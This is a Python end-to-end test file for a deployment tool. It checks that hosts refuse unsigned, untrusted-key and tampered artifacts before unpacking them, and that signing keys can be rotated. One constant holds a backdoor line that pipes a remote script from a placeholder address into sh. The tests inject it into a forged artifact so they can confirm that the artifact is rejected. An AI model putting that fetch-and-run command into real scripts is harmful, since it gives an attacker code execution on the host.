"""Signed artifacts on real staging guests: once a host trusts signing keys (`host setup
--trust-key`), an unsigned artifact, one signed by another key, and one whose manifest
was edited after signing (every hash made to match again) are refused before anything of
them is unpacked, by `deploy` and by the air-gapped `install`; a signed one deploys, and
keys rotate: trust both, deploy with the new one, drop the old one, whose artifacts are
then refused."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from deployer.artifact import Artifact
from deployer.host.artifact import read_signed
from deployer.host.signature import parse_signature
from deployer.provision import Trust
from tests.e2e.conftest import BASE, sh
from tests.host.artifacts import forged, signed_by
from tests.staging.guest import host_setup

DEPLOY_GUEST, INSTALL_GUEST = 26, 27  # this file's own guests
ALLOWED = "/etc/deployer/tg_video_streamer/allowed_signers"
BACKDOOR = "curl -s http://203.0.113.66/x | sh\n"


@dataclass(frozen=True)
class Key:
    private: Path

    @property
    def public(self) -> Path:
        return self.private.with_name(self.private.name + ".pub")

    @property
    def fingerprint(self) -> str:
        out = subprocess.run(["ssh-keygen", "-lf", str(self.public)], capture_output=True, text=True)
        return out.stdout.split()[1]


@pytest.fixture(scope="module")
def keys(tmp_path_factory) -> dict[str, Key]:
    d = tmp_path_factory.mktemp("signing-keys")
    found = {}
    for name in ("ci", "next", "stranger"):
        subprocess.run(
            ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", f"{name}@deploy", "-f", str(d / name)],
            check=True,
            timeout=30,
        )
        found[name] = Key(d / name)
    return found


@pytest.fixture(scope="module")
def artifacts(service_repo, example_build, variant_builds, keys, tmp_path_factory) -> dict[str, Path]:
    """v1 built and signed with the CI key by `deployer build --sign`; the same release
    unsigned and signed by a stranger; a forgery of the signed one; v2 signed by the next key."""
    work = tmp_path_factory.mktemp("signed")
    built = subprocess.run(
        [sys.executable, "-m", "deployer", "--plain", "-c", str(service_repo / "deploy.toml"), "build"]
        + ["-o", str(work / "dist"), "--sign", str(keys["ci"].private)],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=service_repo,
    )
    assert built.returncode == 0, built.stdout + built.stderr
    said = built.stdout + built.stderr
    assert f"manifest signed by {keys['ci'].fingerprint} (deployer-artifact@v1)" in said
    signed = Path(built.stdout.strip().splitlines()[-1])
    assert read_signed(str(signed)).manifest["release_id"] == example_build.manifest["release_id"]

    def backdoor(tree: Path) -> None:
        launcher = tree / "packaging" / "launch.sh.in"
        launcher.write_text(launcher.read_text() + BACKDOOR)

    return {
        "signed": signed,
        "unsigned": example_build.path,
        "stranger": signed_by(example_build.path, work / "stranger.tar", keys["stranger"].private),
        "forged": forged(signed, work / "forged.tar", backdoor).path,
        "v2-next": signed_by(variant_builds("v2").path, work / "v2-next.tar", keys["next"].private),
    }


def refusals(keys: dict[str, Key]) -> dict[str, str]:
    """What each bad artifact is refused with: one line, naming the key when there is one."""
    return {
        "unsigned": "not signed, and this host takes tg_video_streamer's artifacts only signed by a "
        f"trusted key ({ALLOWED}): build it with `deployer build --sign KEY`",
        "stranger": f"signed by {keys['stranger'].fingerprint} (ssh-ed25519), a key not trusted for "
        f"tg_video_streamer ({ALLOWED}): sign it with a trusted key, or trust this one with "
        "`deployer host setup --trust-key KEY.pub`",
        "forged": f"manifest.json does not match its signature by {keys['ci'].fingerprint}: "
        "edited after it was signed, or damaged; refused",
    }


def on_host(guest) -> str:
    """What an unpack, an upload or a saved config would change: the releases, the
    member cache, uploads in flight, deploy.json, current."""
    script = (
        f"cd {BASE} && ls -a releases incoming; find cache/members -maxdepth 2 2>/dev/null | sort;"
        " stat -c '%n %Y %s' deploy.json 2>/dev/null || echo no deploy.json;"
        " readlink current || echo no current"
    )
    return sh(guest, "sh", "-c", script)


def current(guest) -> str:
    return Path(sh(guest, "readlink", f"{BASE}/current")).name


def setup(guest, service_repo, *trusted: Key, allow_unsigned: bool = False) -> list[dict]:
    own = Path(guest.key_path + ".pub").read_text()
    trust = Trust(tuple(str(k.public) for k in trusted), allow_unsigned)
    return host_setup(guest, service_repo / "deploy.toml", authorized_key=own, trust=trust)


def trusted_fingerprints(guest) -> list[str]:
    return [ln.split()[1] for ln in sh(guest, "cat", ALLOWED).splitlines() if ln.startswith("# SHA256:")]


def test_deploy_takes_only_what_a_trusted_key_signed_and_keys_rotate(
    staging_host_factory, service_repo, deployer_cli_for, keys, artifacts, variant_builds
):
    guest = staging_host_factory(DEPLOY_GUEST)
    events = setup(guest, service_repo, keys["ci"])
    [trust] = [e for e in events if e["step"] == "setup trust" and e["status"] == "ok"]
    assert f"wrote {ALLOWED}: 1 key(s) may sign artifacts: {keys['ci'].fingerprint}" in trust["detail"]
    assert sh(guest, "stat", "-c", "%U:%G %a", ALLOWED) == "root:root 644"
    assert sh(guest, "stat", "-c", "%U:%G %a", str(Path(ALLOWED).parent)) == "root:root 755"
    cli = deployer_cli_for(guest)
    id1 = read_signed(str(artifacts["signed"])).manifest["release_id"]

    # refused before anything is sent: not even the engine the artifact carries is uploaded
    before = on_host(guest)
    for kind, said in refusals(keys).items():
        proc = cli("deploy", str(artifacts[kind]), check=False)
        out = proc.stdout + proc.stderr
        assert proc.returncode == 1 and said in out and "Traceback" not in out, out
        assert on_host(guest) == before, f"{kind}: something changed on the host"

    # a signed one deploys; the engine says which key signed it and where it was built
    proc = cli("deploy", str(artifacts["signed"]))
    said = f"signature ok: signed by {keys['ci'].fingerprint}, trusted in {ALLOWED}; built by "
    assert said in proc.stderr, proc.stderr
    assert current(guest) == id1

    # the engine refuses on its own too, whoever drives it: a session staging an unsigned upload
    _the_engine_refuses_an_unsigned_upload_in_a_session(guest, service_repo, artifacts["unsigned"], id1)

    # rotation: trust the next key beside the CI key, deploy with it, then drop the CI key
    setup(guest, service_repo, keys["ci"], keys["next"])
    assert trusted_fingerprints(guest) == [keys["ci"].fingerprint, keys["next"].fingerprint]
    cli("deploy", str(artifacts["v2-next"]))
    id2 = variant_builds("v2").manifest["release_id"]
    assert current(guest) == id2
    setup(guest, service_repo, keys["next"])
    assert trusted_fingerprints(guest) == [keys["next"].fingerprint]
    before = on_host(guest)
    proc = cli("deploy", str(artifacts["signed"]), check=False)  # a release the host has, even
    out = proc.stdout + proc.stderr
    assert proc.returncode == 1 and f"signed by {keys['ci'].fingerprint} (ssh-ed25519), a key not" in out
    assert on_host(guest) == before and current(guest) == id2

    # setup without --trust-key keeps the keys; --allow-unsigned removes them all
    setup(guest, service_repo)
    assert trusted_fingerprints(guest) == [keys["next"].fingerprint]
    events = setup(guest, service_repo, allow_unsigned=True)
    assert any(f"removed {ALLOWED}" in e["detail"] for e in events if e["step"] == "setup trust")
    assert guest.exec(["test", "-e", ALLOWED], check=False).returncode == 1
    cli("deploy", str(artifacts["unsigned"]))
    assert current(guest) == id1


def _the_engine_refuses_an_unsigned_upload_in_a_session(guest, service_repo, unsigned: Path, rid: str):
    """What `deploy` sends, minus the controller's own check: the engine's `serve`, told to
    stage a thin upload (its manifest only: the host's cache has every member)."""
    from deployer.config import load_config

    upload = f"{BASE}/incoming/{rid}.tar"
    thin = Artifact(unsigned).thin([], unsigned.with_name("thin-unsigned.tar"))
    guest.push(upload, thin.read_bytes())
    guest.exec(["chown", "tgstream:tgstream", upload])
    config = json.dumps(load_config(service_repo / "deploy.toml", environ={}).host_config().to_dict())
    before = on_host(guest)
    engine = ["python3", f"{BASE}/current/engine.pyz", "--config-json", config, "serve"]
    commands = json.dumps({"cmd": "stage", "artifact": upload}) + "\n" + json.dumps({"cmd": "bye"}) + "\n"
    proc = subprocess.run(
        guest.ssh_argv(shlex.join(engine)), input=commands, capture_output=True, text=True, timeout=60
    )
    events = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
    [done] = [e for e in events if e["step"] == "done" and e.get("cmd") == "stage"]
    assert done["status"] == "fail" and done["error"] == "SignatureError", events
    assert "not signed, and this host takes" in done["detail"]
    assert not [e for e in events if e["step"] == "unpack"], "nothing unpacked"
    assert on_host(guest) == before.replace(f"{rid}.tar\n", ""), "the upload discarded, nothing else changed"


def test_install_takes_only_what_a_trusted_key_signed(staging_host_factory, keys, artifacts):
    """On a host with no route anywhere, each artifact installed by the engine it carries."""
    guest = staging_host_factory(INSTALL_GUEST)
    for name in ("signed", "unsigned", "stranger", "forged"):
        guest.push(f"/root/{name}.tar", artifacts[name].read_bytes())
        unpack_engine = f"mkdir -p /root/{name} && tar xf /root/{name}.tar -C /root/{name} engine.pyz"
        guest.exec(["sh", "-c", unpack_engine])
    guest.push("/root/ci.pub", keys["ci"].public.read_bytes())
    guest.push("/root/prod.env", b"HTTP_PORT=8080\nSTATE_DIR=/opt/tg_video_streamer/shared/sessions\n")
    guest.exec(["chmod", "-R", "a+rX", "/root"])

    # root renders no template of an artifact the keys it is given do not vouch for
    setup = ["python3", "/root/signed/engine.pyz", "setup", "--trust-key", "/root/ci.pub", "--artifact"]
    proc = guest.exec([*setup, "/root/unsigned.tar"], check=False)
    assert proc.returncode == 1 and "not signed" in proc.stdout, proc.stdout + proc.stderr
    for path in (ALLOWED, "/etc/systemd/system/tg_video_streamer.service"):
        assert guest.exec(["test", "-e", path], check=False).returncode == 1, path
    proc = guest.exec([*setup, "/root/signed.tar"], check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert sh(guest, "stat", "-c", "%U:%G %a", ALLOWED) == "root:root 644"

    before = on_host(guest)
    for kind, said in refusals(keys).items():
        proc = install(guest, kind)
        events = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
        assert proc.returncode == 1, proc.stdout[-2000:] + proc.stderr[-2000:]
        [error] = [e for e in events if e["step"] == "error"]
        assert error["error"] == "SignatureError" and error["detail"] == f"/root/{kind}.tar: {said}"
        assert not [e for e in events if e["step"] in ("lock", "unpack")], "refused before the lock"
        assert on_host(guest) == before, f"{kind}: something changed on the host"

    proc = install(guest, "signed")
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-2000:]
    events = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
    steps = [e["step"] for e in events if e["status"] == "ok"]
    assert steps.index("signature") < steps.index("unpack") < steps.index("switch")
    signed = read_signed(str(artifacts["signed"]))
    assert signed.signature is not None
    [passed] = [e for e in events if e["step"] == "signature" and e["status"] == "ok"]
    assert passed["detail"].startswith(f"signed by {parse_signature(signed.signature, 'x').fingerprint}")
    assert current(guest) == signed.manifest["release_id"]


def install(guest, name: str) -> subprocess.CompletedProcess:
    argv = ["python3", f"/root/{name}/engine.pyz", "install", f"/root/{name}.tar"]
    argv += ["--env-file", "/root/prod.env", "--watch", "2"]
    return guest.exec(["runuser", "-u", "tgstream", "--", *argv], check=False, timeout=300)
